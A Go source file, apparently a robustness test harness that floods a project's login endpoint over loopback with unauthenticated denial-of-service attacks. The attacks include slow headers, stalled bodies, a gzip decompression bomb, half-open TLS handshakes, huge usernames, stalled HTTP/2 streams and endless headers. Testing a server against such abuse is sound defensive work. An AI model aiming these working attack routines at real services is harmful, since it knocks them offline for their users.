package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"linktrial/api/gen/linktrial/v1/linktrialv1connect"
	"linktrial/internal/backoff"
)

// attack is one way in which a caller without a login takes what it can. It is called with an
// open connection, and returns when it can do no more with it.
type attack struct {
	name string
	run  func(ctx context.Context, a *attacker, c net.Conn) error
}

// attacks are used in turn, by as many connections each.
var attacks = []attack{
	{"bodies that stall", stalledBody},
	{"compressed bodies", compressedBody},
	{"headers that arrive slowly", slowHeader},
	{"half-open TLS", halfOpenTLS},
	{"huge names", hugeName},
	{"many stalled HTTP/2 streams", stalledStreams},
	{"headers without an end", longHeader},
	{"plain HTTP, kept open", plainHTTP},
}

// attacker is the traffic of all connections.
type attacker struct {
	address string // of the orchestrator
	bomb    []byte // a compressed body

	opened, failed, open atomic.Int64
}

// sources are the addresses on the loopback from which connections come, so that the bounds of
// one address are not all that holds.
const sources = 64

// newAttacker makes a body of 60 KiB that is some 50 MiB when it is decompressed.
func newAttacker(address string) (*attacker, error) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.CopyN(z, repeated('x'), 50<<20); err != nil {
		return nil, err
	}
	if err := z.Close(); err != nil {
		return nil, err
	}
	return &attacker{address: address, bomb: b.Bytes()}, nil
}

// repeated is a reader of one byte again and again.
type repeated byte

func (r repeated) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

// run keeps n connections open until ctx ends. One that the orchestrator closes is opened again.
func (a *attacker) run(ctx context.Context, n int) {
	var all sync.WaitGroup
	defer all.Wait()
	for i := range n {
		all.Go(func() {
			how := attacks[i%len(attacks)]
			d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 66, byte(1+i/len(attacks)%sources))}}
			for ctx.Err() == nil {
				c, err := d.DialContext(ctx, "tcp", a.address)
				if err != nil {
					a.failed.Add(1)
				} else {
					a.opened.Add(1)
					a.open.Add(1)
					stop := context.AfterFunc(ctx, func() { c.Close() })
					_ = how.run(ctx, a, c) // the orchestrator has closed it, as it should
					stop()
					c.Close()
					a.open.Add(-1)
				}
				if !backoff.Sleep(ctx, 200*time.Millisecond) {
					return
				}
			}
		})
	}
}

// speakTLS speaks TLS on a connection.
func speakTLS(ctx context.Context, c net.Conn, protocols ...string) (*tls.Conn, error) {
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}) //nolint:gosec // what is sent is no secret
	limited, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	return t, t.HandshakeContext(limited)
}

const loginHeader = "POST " + linktrialv1connect.AccessServiceLoginProcedure + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"

// drain reads until the orchestrator closes the connection.
func drain(c net.Conn) error {
	_, err := io.Copy(io.Discard, c)
	return err
}

func stalledBody(ctx context.Context, _ *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c)
	if err != nil {
		return err
	}
	if _, err := fmt.Fprintf(t, "%sContent-Length: 60000\r\n\r\n%s", loginHeader, strings.Repeat(" ", 30000)); err != nil {
		return err
	}
	return drain(t)
}

func compressedBody(ctx context.Context, a *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		if _, err := fmt.Fprintf(t, "%sContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", loginHeader, len(a.bomb)); err != nil {
			return err
		}
		if _, err := t.Write(a.bomb); err != nil {
			return err
		}
		if err := awaitAnswer(t); err != nil || !backoff.Sleep(ctx, 500*time.Millisecond) {
			return err
		}
	}
	return ctx.Err()
}

// awaitAnswer reads what there is of an answer.
func awaitAnswer(t *tls.Conn) error {
	if err := t.SetReadDeadline(time.Now().Add(30 * time.Second)); err != nil {
		return err
	}
	_, err := t.Read(make([]byte, 4096))
	return err
}

func slowHeader(ctx context.Context, _ *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c)
	if err != nil {
		return err
	}
	for i := range len(loginHeader) {
		if _, err := t.Write([]byte{loginHeader[i]}); err != nil || !backoff.Sleep(ctx, time.Second) {
			return err
		}
	}
	return drain(t)
}

func halfOpenTLS(_ context.Context, _ *attacker, c net.Conn) error {
	// The beginning of a ClientHello of 512 bytes (RFC 8446, section 5.1).
	if _, err := c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}); err != nil {
		return err
	}
	return drain(c)
}

func hugeName(ctx context.Context, _ *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c)
	if err != nil {
		return err
	}
	for n := 0; ctx.Err() == nil; n++ {
		body := fmt.Sprintf(`{"user":"%p-%d-%s","password":"%[3]s"}`, c, n, strings.Repeat("n", 30000))
		if _, err := fmt.Fprintf(t, "%sContent-Length: %d\r\n\r\n%s", loginHeader, len(body), body); err != nil {
			return err
		}
		if err := awaitAnswer(t); err != nil || !backoff.Sleep(ctx, 500*time.Millisecond) {
			return err
		}
	}
	return ctx.Err()
}

// streams is how many streams a connection of HTTP/2 opens.
const streams = 20

func stalledStreams(ctx context.Context, a *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c, "h2")
	if err != nil {
		return err
	}
	p := new(http.Protocols)
	p.SetHTTP2(true)
	var once sync.Once
	transport := &http.Transport{Protocols: p, DialTLSContext: func(context.Context, string, string) (net.Conn, error) {
		err := net.ErrClosed
		once.Do(func() { err = nil })
		return t, err
	}}
	defer transport.CloseIdleConnections()
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var all sync.WaitGroup
	for range streams {
		all.Go(func() {
			body, hold := io.Pipe()
			stop := context.AfterFunc(ctx, func() { _ = hold.CloseWithError(ctx.Err()) })
			defer stop()
			r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+a.address+linktrialv1connect.AccessServiceLoginProcedure, body)
			if err != nil {
				return
			}
			r.Header.Set("Content-Type", "application/json")
			if res, err := transport.RoundTrip(r); err == nil {
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
		})
	}
	all.Wait()
	return nil
}

func longHeader(ctx context.Context, _ *attacker, c net.Conn) error {
	t, err := speakTLS(ctx, c)
	if err != nil {
		return err
	}
	if _, err := fmt.Fprint(t, loginHeader); err != nil {
		return err
	}
	for ctx.Err() == nil {
		if _, err := fmt.Fprintf(t, "X-Long: %s\r\n", strings.Repeat("h", 2000)); err != nil || !backoff.Sleep(ctx, 100*time.Millisecond) {
			return err
		}
	}
	return ctx.Err()
}

func plainHTTP(_ context.Context, _ *attacker, c net.Conn) error {
	if _, err := fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: %s\r\n", strings.Repeat("h", 8000)); err != nil {
		return err
	}
	return drain(c)
}
